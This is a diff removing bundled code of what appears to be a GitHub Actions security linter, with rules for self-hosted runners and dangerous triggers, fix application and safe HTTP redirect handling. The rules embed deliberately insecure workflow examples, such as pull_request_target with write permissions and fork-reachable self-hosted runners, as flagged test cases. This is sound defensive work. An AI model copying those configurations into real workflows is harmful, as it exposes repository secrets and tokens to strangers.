-        }
-    },
-}));
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/gates.js
-
-/**
- * Do conditions keep a stranger's run out of a job?
- *
- * The job's `if:` and those of the jobs that it needs are evaluated for a run that somebody without write access starts by
- * `event`, from a fork. What can't be known counts as passable.
- */
-function keepsStrangersOut(job, event) {
-    return isStopped(job, event, new Set());
-}
-function isStopped(job, event, above) {
-    if (above.has(job))
-        return false;
-    const condition = conditionOf(job);
-    if (condition && truthiness(evaluate(condition, { lookup: strangersContext(condition, event) })) === false)
-        return true;
-    // A skipped job skips those that need it, unless their condition asks for their status itself.
-    if (condition && asksForStatus(condition))
-        return false;
-    const path = new Set([...above, job]);
-    return job.needs.some(({ value }) => {
-        const needed = job.workflow.job(value);
-        return needed !== undefined && isStopped(needed, event, path);
-    });
-}
-function conditionOf(job) {
-    const scalar = job.condition;
-    if (!scalar)
-        return undefined;
-    const condition = parseCondition(scalar.value);
-    return condition.kind === "expression" ? condition.expression : undefined;
-}
-const STATUS_FUNCTIONS = new Set(["always", "cancelled", "failure"]);
-function asksForStatus(condition) {
-    let asks = false;
-    visitExpression(condition, (node) => {
-        if (node.kind === "call" && STATUS_FUNCTIONS.has(node.name))
-            asks = true;
-    });
-    return asks;
-}
-const gates_UNKNOWN = { known: false };
-function gates_known(value) {
-    return { known: true, value };
-}
-/** What is sure about such a run. The repository's name is whatever the condition compares it with: that test passes. */
-function strangersContext(condition, event) {
-    const repository = repositoryIn(condition);
-    const facts = new Map([
-        ["github.event_name", gates_known(event)],
-        ["github.repository", gates_known(repository)],
-        ["github.repository_owner", gates_known(repository.split("/")[0])],
-    ]);
-    if (event.startsWith("pull_request")) {
-        facts.set("github.event.pull_request.head.repo.fork", gates_known(true));
-        facts.set("github.event.pull_request.head.repo.full_name", gates_known("a-stranger/fork"));
-        facts.set("github.event.pull_request.head.repo.owner.login", gates_known("a-stranger"));
-        facts.set("github.event.pull_request.head.user.login", gates_known("a-stranger"));
-        facts.set("github.event.pull_request.base.repo.full_name", gates_known(repository));
-        facts.set("github.event.repository.full_name", gates_known(repository));
-    }
-    return (path) => facts.get(path.join(".")) ?? gates_UNKNOWN;
-}
-/** `owner/repo` where the condition compares `github.repository` with it, and the owner it compares the owner with. */
-function repositoryIn(condition) {
-    let repository = "";
-    let owner = "";
-    visitExpression(condition, (node) => {
-        if (node.kind !== "binary")
-            return;
-        for (const [side, other] of [
-            [node.left, node.right],
-            [node.right, node.left],
-        ]) {
-            if (other.kind !== "literal" || typeof other.value !== "string")
-                continue;
-            const name = references(side)[0]?.segments.join(".");
-            if (name === "github.repository" && other.value.includes("/"))
-                repository = other.value;
-            if (name === "github.repository_owner")
-                owner = other.value;
-        }
-    });
-    return repository || `${owner || "this-owner"}/this-repository`;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/runner/self-hosted-runner.js
-
-
-
-/* harmony default export */ const self_hosted_runner = (defineRule({
-    id: "self-hosted-runner",
-    category: "runner",
-    severity: "high",
-    isZizmor: true,
-    summary: "Runs that strangers start land on a self-hosted runner",
-    risk: "A self-hosted machine is used again for later runs and stands in your network. What a stranger's pull request leaves on it waits for the next job and its secrets.",
-    mend: "Run jobs for pull requests on GitHub's machines, or on runners that are thrown away after each job; or let the job run only for branches of this repository: `if: github.event.pull_request.head.repo.full_name == github.repository`.",
-    sources: ["https://docs.github.com/actions/reference/security/secure-use#hardening-for-self-hosted-runners"],
-    examples: {
-        flagged: [
-            {
-                text: `on: pull_request
-permissions: {}
-jobs:
-  test:
-    runs-on: [self-hosted, linux]
-    steps:
-      - run: make test
-`,
-                at: [5],
-                severity: "high",
-            },
-            {
-                text: `on: [push, pull_request]
-permissions: {}
-jobs:
-  test:
-    strategy:
-      matrix:
-        os: [ubuntu-24.04, self-hosted]
-    runs-on: \${{ matrix.os }}
-    steps:
-      - run: make test
-`,
-                at: [7],
-                severity: "high",
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  a:
-    runs-on: self-hosted
-    steps:
-      - run: make test
-  b:
-    runs-on: {group: big}
-    steps:
-      - run: make test
-  c:
-    runs-on: \${{ vars.RUNNER }}
-    steps:
-      - run: make test
-`,
-                at: [5, 9, 13],
-                persona: "auditor",
-                severity: "medium",
-            },
-        ],
-        silent: [
-            {
-                text: `on: pull_request
-permissions: {}
-jobs:
-  test:
-    if: github.event.pull_request.head.repo.full_name == github.repository
-    runs-on: self-hosted
-    steps:
-      - run: make test
-  after:
-    needs: test
-    runs-on: self-hosted
-    steps:
-      - run: make report
-`,
-                because: "pull requests of forks don't reach it",
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  test:
-    runs-on: self-hosted
-    steps:
-      - run: make test
-`,
-                because: "only people with write access start it; an auditor still hears of it",
-            },
-            {
-                text: `on: pull_request
-permissions: {}
-jobs:
-  test:
-    runs-on: ubuntu-24.04
-    steps:
-      - run: echo self-hosted
-`,
-                because: "the runner is GitHub's",
-            },
-        ],
-    },
-    job(job, report) {
-        const { runner } = job;
-        if (!runner)
-            return;
-        const events = eventsThatReach(job, job.workflow);
-        const selfHosted = runner.labels.filter(({ text }) => text.toLowerCase() === "self-hosted");
-        for (const label of selfHosted)
-            reportLabel(label, runner, events, report);
-        if (selfHosted.length > 0)
-            return;
-        if (runner.group)
-            reportUnsure(runner.group, "A runner group may hold self-hosted runners", report);
-        else if (runner.isOpen)
-            reportUnsure(runner.entry.value, "This expression may come to a self-hosted runner", report);
-    },
-}));
-/** Events by which strangers can start the job; conditions that keep them out are seen through. */
-function eventsThatReach(job, workflow) {
-    const events = workflow.triggers.map((trigger) => trigger.event).filter(isFiredByAnyone);
-    return events.filter((event) => !keepsStrangersOut(job, event));
-}
-function reportLabel(label, runner, events, report) {
-    const related = label.fromMatrix ? [{ place: runner.entry.value, message: "it is used here" }] : [];
-    const [event] = events;
-    if (event !== undefined) {
-        report(label.node, `Strangers can start this job by \`${event}\`, and it runs on a self-hosted runner`, {
-            related,
-        });
-    }
-    else {
-        report(label.node, "This job runs on a self-hosted runner", { severity: "medium", persona: "auditor", related });
-    }
-}
-function reportUnsure(place, message, report) {
-    report(place, message, { severity: "medium", confidence: "low", persona: "auditor" });
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/triggers/dangerous-triggers.js
-
-
-const WHY = {
-    pull_request_target: "`pull_request_target` runs with this repository's secrets and token for pull requests of strangers",
-    workflow_run: "`workflow_run` runs with this repository's secrets and token after workflows that strangers can start",
-    issue_comment: "`issue_comment` runs with this repository's secrets and token whenever a stranger writes a comment",
-};
-/* harmony default export */ const dangerous_triggers = (defineRule({
-    id: "dangerous-triggers",
-    category: "triggers",
-    severity: "high",
-    isZizmor: true,
-    summary: "Strangers can start this workflow with the repository's own rights",
-    risk: "The run has a write token and the secrets, and its cache is the default branch's. One step that builds, tests or only prints what the stranger sent gives all of that away.",
-    mend: "Use `pull_request`, which gets neither secrets nor a write token from a fork. Where that isn't enough, split the work: an unprivileged workflow for the stranger's code, and one for the rest that only reads its results as data.",
-    sources: [
-        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
-        "https://docs.github.com/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target",
-    ],
-    examples: {
-        flagged: [
-            {
-                text: `on:
-  push:
-  pull_request_target:
-    types: [opened]
-permissions:
-  contents: write
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - run: make
-`,
-                at: [3],
-                confidence: "medium",
-            },
-            {
-                text: `on: [push, workflow_run, issue_comment]
-permissions:
-  issues: write
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - run: make
-`,
-                at: [1, 1],
-            },
-            {
-                text: `on: issue_comment
-permissions: {}
-jobs:
-  greet:
-    runs-on: ubuntu-latest
-    steps:
-      - run: echo hello
-`,
-                at: [1],
-                confidence: "low",
-            },
-        ],
-        silent: [
-            {
-                text: `on: pull_request_target
-permissions:
-  contents: read
-  pull-requests: write
-jobs:
-  label:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/labeler@1234567890abcdef1234567890abcdef12345678
-`,
-                because: "a lone labeler step runs nothing that the stranger wrote",
-            },
-            {
-                text: `on: pull_request
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - run: echo "pull_request_target"
-`,
-                because: "the trigger is `pull_request`",
-            },
-        ],
-    },
-    workflow(workflow, report) {
-        for (const trigger of workflow.triggers) {
-            const message = WHY[trigger.event];
-            if (message === undefined || isLoneLabeler(trigger, workflow))
-                continue;
-            const isHarmless = workflow.jobs.every((job) => holdsNothing(holdingsOf(job)) && !bringsInOthersCode(job));
-            report(trigger.key, message, { confidence: isHarmless ? "low" : "medium" });
-        }
-    },
-}));
-function isLoneLabeler(trigger, workflow) {
-    const [job, ...others] = workflow.jobs;
-    if (trigger.event !== "pull_request_target" || job?.kind !== "normal" || others.length > 0)
-        return false;
-    return job.steps.length === 1 && job.steps[0]?.uses?.is("actions/labeler") === true;
-}
-/** May code or files that the run's cause brought get into the job? Whatever isn't plainly harmless counts. */
-function bringsInOthersCode(job) {
-    return job.kind === "reusable" || job.steps.some(fetchesOthersCode);
-}
-const FETCHES = /\bgh\s+(?:pr|run)\b|refs\/pull|\bpull\/|\bgit\b|head_|head\./;
-function fetchesOthersCode(step) {
-    const { uses, run } = step;
-    if (run)
-        return FETCHES.test(run.text);
-    if (!uses)
-        return false;
-    if (uses.is("actions/checkout"))
-        return step.input("ref") !== undefined || step.input("repository") !== undefined;
-    return uses.target.kind !== "repository" || !uses.text.startsWith("actions/") || uses.is("actions/download-artifact");
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/index.generated.js
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-/** Every rule, sorted by id. */
-const RULES = [
-    artipacked,
-    dangerous_triggers,
-    excessive_permissions,
-    github_env,
-    hardcoded_container_credentials,
-    insecure_commands,
-    secrets_inherit,
-    self_hosted_runner,
-    suppression_without_reason,
-    template_injection,
-    unpinned_images,
-    unpinned_uses,
-    unreadable_file,
-    unused_suppression,
-];
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/judge.js
-
-
-
-
-
-
-
-/**
- * Reads and judges one repository.
- *
- * @param root its folder
- */
-async function analyzeRepository(root, options = {}) {
-    const config = options.config ?? NO_CONFIG;
-    const only = options.only ?? null;
-    const repository = await readRepository(root, {
-        isIgnored: config.isIgnored,
-        also: only?.length === 1 ? only[0] : null,
-        ...(options.edited && { edited: options.edited }),
-    });
-    return judge_judge(repository, { ...options, config });
-}
-/** Judges a repository that has been read. */
-async function judge_judge(repository, options = {}) {
-    const config = options.config ?? NO_CONFIG;
-    const persona = options.persona ?? config.persona ?? "regular";
-    const only = options.only ? new Set(options.only) : null;
-    const isJudged = (path) => only === null || only.has(path);
-    const rules = (options.rules ?? RULES).filter((rule) => config.rules.get(rule.id)?.isOff !== true);
-    await prepareShells();
-    const { findings: drafts, errors } = analyze(repository, {
-        rules,
-        persona,
-        personas: personasOf(config),
-        isJudged,
-    });
-    const settled = applySettings((0,lib/* fingerprintFindings */.f5)(drafts), config);
-    const silenced = applyIgnoreComments(repository, settled, { rules, persona, isJudged });
-    return {
-        findings: (0,lib/* sortFindings */.Tc)(silenced),
-        errors,
-        files: [...repository.sources.keys()].filter(isJudged).length,
-        sources: repository.sources,
-    };
-}
-function personasOf(config) {
-    return new Map([...config.rules].flatMap(([id, { persona }]) => (persona ? [[id, persona]] : [])));
-}
-/** The severities that settings give, and the places that they silence. */
-function applySettings(findings, config) {
-    if (config.rules.size === 0)
-        return findings;
-    return findings.map((finding) => {
-        const settings = config.rules.get(finding.rule);
-        if (!settings)
-            return finding;
-        const { path, startLine } = finding.location;
-        const isIgnored = settings.ignore.some(({ matches, line }) => matches(path) && (line === null || line === startLine));
-        const reason = settings.reason ?? `ignored in ${config.path}`;
-        return {
-            ...finding,
-            severity: settings.severity ?? finding.severity,
-            suppressed: isIgnored ? { by: "config", reason } : finding.suppressed,
-        };
-    });
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/same-meaning.js
-/**
- * Did edits change only what they touch? Every node that no edit reaches must be there afterwards, with the same value;
- * in a mapping that an edit reaches, keys may be added.
- *
- * @param edits as they were applied to the text of `before`
- */
-function keepsMeaning(before, after, edits) {
-    if (!before || !after)
-        return before === after;
-    const touching = edits.filter((edit) => touches(edit, before));
-    if (touching.length === 0)
-        return isSame(before, after);
-    if (before.kind === "scalar")
-        return true;
-    if (before.kind !== after.kind)
-        return false;
-    if (before.kind === "seq" && after.kind === "seq") {
-        return (before.items.length === after.items.length &&
-            before.items.every((item, i) => keepsMeaning(item.value, after.items[i]?.value, touching)));
-    }
-    return before.kind === "map" && after.kind === "map" && keepsEntries(before.entries, after.entries, touching);
-}
-function keepsEntries(before, after, edits) {
-    const left = [...after];
-    return before.every((entry) => {
-        if (edits.some((edit) => edit.start <= entry.key.start && edit.end > entry.key.start))
-            return true;
-        const index = left.findIndex((other) => other.key.value === entry.key.value);
-        if (index === -1)
-            return false;
-        const [match] = left.splice(index, 1);
-        return keepsMeaning(entry.value, match.value, edits);
-    });
-}
-/** Collections are touched at their ends, too: that is where keys are added. Scalars only inside. */
-function touches(edit, node) {
-    if (node.kind === "scalar" && !node.isEmpty) {
-        return edit.start === edit.end
-            ? edit.start > node.start && edit.start < node.end
-            : edit.start < node.end && edit.end > node.start;
-    }
-    return edit.start <= lineEnd(node) && edit.end >= node.start;
-}
-/** A comment behind a collection's last value belongs to its line. */
-function lineEnd(node) {
-    const { text } = node.file;
-    let end = node.end;
-    while (end < text.length && text[end] !== "\n" && text[end] !== "\r")
-        end++;
-    return end;
-}
-function isSame(a, b) {
-    if (a.kind === "scalar")
-        return b.kind === "scalar" && a.value === b.value && Object.is(a.typed, b.typed) && a.tag === b.tag;
-    if (a.kind === "seq") {
-        return (b.kind === "seq" &&
-            a.items.length === b.items.length &&
-            a.items.every((item, i) => isSame(item.value, b.items[i].value)));
-    }
-    return (b.kind === "map" &&
-        a.entries.length === b.entries.length &&
-        a.entries.every((entry, i) => {
-            const other = b.entries[i];
-            return entry.key.value === other.key.value && isSame(entry.value, other.value);
-        }));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/fix.js
-
-
-
-
-
-
-/** Fixes may make room for others; more rounds than this would mean that two rules undo each other. */
-const MAX_PASSES = 10;
-/**
- * Applies fixes until none is left: each round takes those that don't overlap, checks every file that they change, and
- * judges the repository again. Nothing is written; see `writeChanged`.
- *
- * @param rejudge judges the repository with these texts in place of what is on disk
- */
-async function applyFixes(first, mode, rejudge) {
-    const edited = new Map();
-    const refused = new Set();
-    const notes = [];
-    let judgement = first;
-    for (let pass = 0; pass < MAX_PASSES; pass++) {
-        const candidates = judgement.findings.filter((finding) => !refused.has(finding.fingerprint));
-        const { files } = (0,lib/* selectFixes */._u)(candidates, mode);
-        let hasChanged = false;
-        for (const { path, edits, findings } of files) {
-            const source = judgement.sources.get(path);
-            if (!source)
-                continue;
-            const after = await editChecked(source, edits, findings, mode, (finding, why) => {
-                refused.add(finding.fingerprint);
-                notes.push(`${path}:${finding.location.startLine}: the fix of ${finding.rule} is not applied: ${why}`);
-            });
-            if (after === source.text)
-                continue;
-            edited.set(path, after);
-            hasChanged = true;
-        }
-        if (!hasChanged)
-            break;
-        judgement = await rejudge(edited);
-    }
-    const changed = [...edited].map(([path, after]) => ({
-        path,
-        before: first.sources.get(path).text,
-        after,
-    }));
-    return { changed: changed.filter(({ before, after }) => before !== after), judgement, notes };
-}
-/** All edits of a file at once; where that breaks it, fix by fix, without those that do. */
-async function editChecked(source, edits, findings, mode, refuse) {
-    if ((await problemWith(source, edits)) === null)
-        return (0,lib/* applyEdits */.ct)(source.text, edits);
-    const sound = [];
-    for (const finding of findings) {
-        const own = (0,lib/* selectFixes */._u)([finding], mode).files[0]?.edits ?? [];
-        const why = await problemWith(source, own);
-        if (why === null)
-            sound.push(finding);
-        else
-            refuse(finding, why);
-    }
-    const together = (0,lib/* selectFixes */._u)(sound, mode).files[0]?.edits ?? [];
-    return (await problemWith(source, together)) === null ? (0,lib/* applyEdits */.ct)(source.text, together) : source.text;
-}
-/** Null when the file still parses and nothing but what the edits touch means something else. */
-async function problemWith(source, edits) {
-    const before = await parseYaml(source);
-    const after = await parseYaml(new lib/* SourceFile */.sC(source.path, (0,lib/* applyEdits */.ct)(source.text, edits)));
-    if (after.problems.length > before.problems.length)
-        return "the file would no longer parse";
-    return keepsMeaning(before.root, after.root, edits) ? null : "it would change other parts of the file";
-}
-/**
- * Writes changed files, each whole or not at all.
- *
- * @throws UserError when a file is no longer what was judged, or can't be written
- */
-function writeChanged(root, changed) {
-    for (const { path, before } of changed) {
-        if ((0,external_node_fs_.readFileSync)((0,external_node_path_.join)(root, path), "utf8") === before)
-            continue;
-        throw new action_kit_lib/* UserError */.yo(path, "it changed while it was judged, so nothing was written", "run the command again");
-    }
-    for (const { path, after } of changed)
-        (0,action_kit_lib/* writeFileWhole */.tG)((0,external_node_path_.join)(root, path), after, path);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/settings.js
-
-
-
-
-
-
-/**
- * The settings of a repository: the file that was named, else `.github/trustchain.yml`, else none.
- *
- * @throws UserError when it can't be read or understood
- */
-async function loadConfig(root, named, cwd, ruleIds) {
-    const path = named === undefined ? (0,external_node_path_.join)(root, CONFIG_PATH) : (0,external_node_path_.resolve)(cwd, named);
-    if (named === undefined && !(0,external_node_fs_.existsSync)(path))
-        return NO_CONFIG;
-    return parseConfig(read(path, named ?? CONFIG_PATH, "--config"), ruleIds);
-}
-/** @throws UserError when it can't be read or is no baseline */
-function loadBaseline(named, cwd) {
-    const file = read((0,external_node_path_.resolve)(cwd, named), named, "--baseline");
-    try {
-        return (0,lib/* parseBaseline */.nk)(file.text, named);
-    }
-    catch (error) {
-        if (!(error instanceof lib/* FormatError */.IF))
-            throw error;
-        throw new action_kit_lib/* UserError */.yo(error.file, error.reason, error.remedy);
-    }
-}
-function read(path, shown, option) {
-    const result = readSource(path, shown);
-    if (result.ok)
-        return result.file;
-    throw new action_kit_lib/* UserError */.yo(`${option} ${shown}`, `it can't be read: ${result.reason}`, "name a file that can be read");
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/targets.js
-
-
-
-/**
- * The repositories that paths mean, each once, in the order in which they are first named.
- *
- * @throws UserError for a path where nothing is
- */
-function targetsOf(paths, cwd) {
-    const targets = new Map();
-    for (const path of paths) {
-        const located = locateRepository((0,external_node_path_.resolve)(cwd, path));
-        if (!located)
-            throw new action_kit_lib/* UserError */.yo(path, "there is no such file or folder", "name a repository's folder or a file");
-        const { root, only } = located;
-        const known = targets.get(root);
-        if (!known)
-            targets.set(root, { root, only: only === null ? null : [only], prefix: prefixOf(path, root, only, cwd) });
-        else if (only === null || known.only === null)
-            known.only = null;
-        else
-            known.only.push(only);
-    }
-    const all = [...targets.values()];
-    return all.length === 1 ? all.map((target) => ({ ...target, prefix: "" })) : all;
-}
-/** As it was given, where it names the repository itself. */
-function prefixOf(path, root, only, cwd) {
-    const isRoot = only === null && (0,external_node_path_.resolve)(cwd, path) === root;
-    return (isRoot ? path : (0,external_node_path_.relative)(cwd, root)).replaceAll("\\", "/").replace(/\/+$/, "");
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/static-check.js
-
-
-
-
-
-
-
-
-const RULE_INFO = new Map(RULES.map((rule) => [rule.id, rule]));
-/** Runs rules over the repositories that were named: evidence, model, judgement, and what the kit needs to report it. */
-async function staticCheck({ inputs, host, request }, check) {
-    const targets = targetsOf(inputs.paths, host.cwd);
-    const baseline = inputs.baseline === undefined ? null : loadBaseline(inputs.baseline, host.cwd);
-    const total = new Total();
-    const progress = host.progress("repositories", targets.length);
-    for (const target of targets) {
-        total.add(target, await checkTarget(target, inputs, host, request, check), baseline);
-        progress.advance();
-    }
-    progress.end();
-    if (request.writeBaseline !== undefined) {
-        (0,action_kit_lib/* writeFileWhole */.tG)((0,external_node_path_.resolve)(host.cwd, request.writeBaseline), (0,lib/* writeBaseline */.B9)(total.findings, action_kit_lib/* VERSION */.xv), "--write-baseline");
-    }
-    return {
-        report: {
-            tool: { name: "trustchain", version: action_kit_lib/* VERSION */.xv, command: check.command },
-            findings: (0,lib/* sortFindings */.Tc)(total.findings),
-            errors: total.errors,
-            files: total.files,
-        },
-        context: { source: (path) => total.sources.get(path), rule: (id) => RULE_INFO.get(id) },
-        ...(targets.length === 1 && { root: targets[0].root }),
-        ...(request.diff && { diff: (0,lib/* unifiedDiff */.WH)(total.changed) }),
-        notes: total.notes,
-    };
-}
-async function checkTarget(target, inputs, host, request, check) {
-    const ruleIds = RULES.map((rule) => rule.id);
-    const config = await loadConfig(target.root, inputs.config, host.cwd, ruleIds);
-    const judgeWith = (edited) => judgeTarget(target, config, inputs.persona, check, edited);
-    const judgement = await judgeWith();
-    if (request.fix === "off" && !request.diff)
-        return { judgement, changed: [], notes: [] };
-    const fixed = await applyFixes(judgement, request.fix === "unsafe" ? "unsafe" : "safe", judgeWith);
-    if (request.diff)
-        return { judgement, changed: fixed.changed, notes: fixed.notes };
-    writeChanged(target.root, fixed.changed);
-    const count = fixed.changed.length;
-    const notes = [...fixed.notes, `${count} ${count === 1 ? "file" : "files"} changed by fixes`];
-    return { judgement: fixed.judgement, changed: fixed.changed, notes };
-}
-function judgeTarget({ root, only }, config, persona, { rules }, edited) {
-    return analyzeRepository(root, { rules, persona, config, only, ...(edited && { edited }) });
-}
-/** What all repositories of a run come to; their paths begin with what they were called. */
-class Total {
-    findings = [];
-    errors = [];
-    notes = [];
-    changed = [];
-    sources = new Map();
-    files = 0;
-    add({ root, prefix }, { judgement, changed, notes }, baseline) {
-        const findings = baseline ? (0,lib/* applyBaseline */.Qp)(judgement.findings, baseline) : judgement.findings;
-        const named = (path) => (prefix === "" ? path : `${prefix}/${path}`);
-        for (const finding of findings)
-            this.findings.push(prefix === "" ? finding : renamed(finding, named));
-        for (const error of judgement.errors)
-            this.errors.push({ ...error, path: named(error.path) });
-        for (const file of changed)
-            this.changed.push({ ...file, path: named(file.path) });
-        for (const [path, source] of judgement.sources)
-            this.sources.set(named(path), source);
-        this.notes.push(...notes.map((note) => (prefix === "" ? note : `${prefix}: ${note}`)));
-        if (judgement.files === 0)
-            this.notes.push(`${prefix || root}: there is no workflow, action or Dependabot file here`);
-        this.files += judgement.files;
-    }
-}
-function renamed(finding, named) {
-    const moved = (location) => ({ ...location, path: named(location.path) });
-    return {
-        ...finding,
-        location: moved(finding.location),
-        related: finding.related.map(({ message, location }) => ({ message, location: moved(location) })),
-        fix: finding.fix && {
-            ...finding.fix,
-            files: finding.fix.files.map((file) => ({ ...file, path: named(file.path) })),
-        },
-    };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/index.js
-
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/index.js
-
-
-
-
-
-
-
-
-
-// EXTERNAL MODULE: ./actions/audit/lib/action.js
-var action = __nccwpck_require__(2601);
-;// CONCATENATED MODULE: ./actions/audit/lib/main.js
-
-
-
-/* harmony default export */ const main = (action/* action */.X.main(async (run) => {
-    const outcome = await staticCheck(run, { command: action/* action */.X.name, rules: RULES });
-    return { ...outcome, outputs: (0,lib/* countBySeverity */.Ot)(outcome.report?.findings ?? []) };
-}));
-
-
-/***/ }),
-
-/***/ 6416:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   c: () => (/* binding */ NO_PROGRESS)
-/* harmony export */ });
-const NO_PROGRESS = { advance() { }, end() { } };
-
-
-/***/ }),
-
-/***/ 9587:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-
-// EXPORTS
-__nccwpck_require__.d(__webpack_exports__, {
-  V0: () => (/* binding */ createHttp)
-});
-
-// UNUSED EXPORTS: jsonOf, textOf
-
-// EXTERNAL MODULE: ./packages/action-kit/lib/user-error.js
-var user_error = __nccwpck_require__(5561);
-// EXTERNAL MODULE: ./packages/action-kit/lib/version.js
-var version = __nccwpck_require__(3465);
-// EXTERNAL MODULE: ./packages/action-kit/lib/http/clock.js + 1 modules
-var http_clock = __nccwpck_require__(2668);
-// EXTERNAL MODULE: ./packages/action-kit/lib/system-error.js
-var system_error = __nccwpck_require__(9363);
-;// CONCATENATED MODULE: ./packages/action-kit/lib/http/exchange.js
-
-
-/** The network failed before there was a whole answer; another try may do. */
-class NetworkTrouble extends Error {
-}
-/**
- * Sends one request and reads the answer; a redirect is not followed.
- *
- * @throws NetworkTrouble when no whole answer came; UserError when it is larger than allowed
- */
-async function exchange(fetch, { url, method, headers, body }, limits, doing) {
-    const watchdog = new Watchdog(limits.timeout, limits.remaining);
-    try {
-        const init = { method, headers, redirect: "manual", signal: watchdog.signal };
-        const response = await fetch(url, body === undefined ? init : { ...init, body });
-        const bytes = await readBody(response, limits.maxBytes, watchdog, doing);
-        return { status: response.status, url: url.href, headers: response.headers, body: bytes };
-    }
-    catch (error) {
-        if (error instanceof user_error/* UserError */.y)
-            throw error;
-        throw new NetworkTrouble(watchdog.barked ?? `${url.host}: ${networkReason(error)}`);
-    }
-    finally {
-        watchdog.stop();
-    }
-}
-/** Aborts what makes no progress. */
-class Watchdog {
-    timeout;
-    #abort = new AbortController();
-    #total;
-    #pause;
-    barked;
-    constructor(timeout, remaining) {
-        this.timeout = timeout;
-        this.#total = setTimeout(() => this.#bark("the time for all requests is used up"), remaining);
-        this.#pause = this.#watchPause();
-    }
-    get signal() {
-        return this.#abort.signal;
-    }
-    /** There was progress. */
-    feed() {
-        clearTimeout(this.#pause);
-        this.#pause = this.#watchPause();
-    }
-    stop() {
-        clearTimeout(this.#total);
-        clearTimeout(this.#pause);
-    }
-    #watchPause() {
-        return setTimeout(() => this.#bark(`nothing came for ${this.timeout / 1000} s`), this.timeout);
-    }
-    #bark(reason) {
-        this.barked = reason;
-        this.#abort.abort();
-    }
-}
-async function readBody(response, maxBytes, watchdog, doing) {
-    const pieces = [];
-    let size = 0;
-    watchdog.feed();
-    for await (const piece of response.body ?? []) {
-        watchdog.feed();
-        size += piece.byteLength;
-        // Leaving the loop cancels the stream, which closes the connection.
-        if (size > maxBytes) {
-            throw new user_error/* UserError */.y(doing, `the answer is larger than ${maxBytes} bytes`, "check the address that was asked");
-        }
-        pieces.push(piece);
-    }
-    const whole = new Uint8Array(size);
-    let at = 0;
-    for (const piece of pieces) {
-        whole.set(piece, at);
-        at += piece.byteLength;
-    }
-    return whole;
-}
-const REASONS = new Map([
-    ["ENOTFOUND", "the host is not known"],
-    ["EAI_AGAIN", "the host's name can't be looked up now"],
-    ["ECONNREFUSED", "it refuses the connection"],
-    ["ECONNRESET", "it closed the connection"],
-    ["UND_ERR_SOCKET", "it closed the connection"],
-    ["ETIMEDOUT", "the connection timed out"],
-    ["UND_ERR_CONNECT_TIMEOUT", "the connection timed out"],
-    ["ENETUNREACH", "the network can't be reached"],
-    ["CERT_HAS_EXPIRED", "its certificate has expired"],
-    ["DEPTH_ZERO_SELF_SIGNED_CERT", "its certificate is self-signed"],
-]);
-/** fetch hides what happened in the error's cause, and a proxy's refusal in the cause of that. */
-function networkReason(error) {
-    let cause = error;
-    for (let depth = 0; depth < 5; depth++)
-        cause = cause?.cause ?? cause;
-    return REASONS.get((0,system_error/* codeOf */.$N)(cause)) ?? (0,system_error/* messageOf */.bD)(cause);
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/http/parse-url.js
-/** The URL that a text is, or undefined. (`URL.parse` is younger than the oldest Node that we start on.) */
-function parseUrl(text, base) {
-    return URL.canParse(text, base?.href) ? new URL(text, base?.href) : undefined;
-}
-
-;// CONCATENATED MODULE: ./packages/action-kit/lib/http/redirect.js
-
-
-const REDIRECTS = new Set([301, 302, 303, 307, 308]);
-/** All that another origin gets to see: whatever else a caller sends may be a credential. */
-const HARMLESS = new Set(["accept", "accept-language", "content-type", "range", "user-agent"]);
-/**
- * Where an answer sends a request, or undefined when it is no redirect.
- *
- * @throws UserError when it leads to an address that `requireSafe` refuses
- * @see Fetch, "HTTP-redirect fetch": the method becomes GET as browsers do it
- */
-function redirected(hop, status, location, doing) {
-    if (!REDIRECTS.has(status) || location === null)
-        return undefined;
-    const url = parseUrl(location, hop.url);
-    if (url === undefined)
-        throw new user_error/* UserError */.y(doing, `${hop.url.host} redirects to something that is no URL`, "report it there");
-    requireSafe(url, doing, isLoopback(hop.url));
-    const becomesGet = status === 303 ? hop.method !== "HEAD" : status < 303 && hop.method === "POST";
-    const headers = url.origin === hop.url.origin ? new Headers(hop.headers) : harmless(hop.headers);
-    if (!becomesGet)
-        return { url, method: hop.method, headers, body: hop.body };
-    headers.delete("content-type");
-    return { url, method: "GET", headers, body: undefined };
-}
-/**
- * Refuses what would send a request in the clear: anything but https, or http to this machine.
- *
- * @param loopbackAllowed false for a redirect from elsewhere, which has no business on this machine
- */
-function requireSafe(url, doing, loopbackAllowed = true) {
-    if (isLoopback(url) && !loopbackAllowed) {
-        throw new user_error/* UserError */.y(doing, "the server redirects to this machine", "check the address that it is asked for");
-    }
-    if (url.protocol === "https:" || (url.protocol === "http:" && isLoopback(url)))
-        return;
-    throw new user_error/* UserError */.y(doing, `${url.protocol}//${url.host} is not https`, "give an https address");
-}
-/** Is it this machine? (RFC 1122, section 3.2.1.3; RFC 4291, section 2.5.3; RFC 6761, section 6.3) */
-function isLoopback(url) {
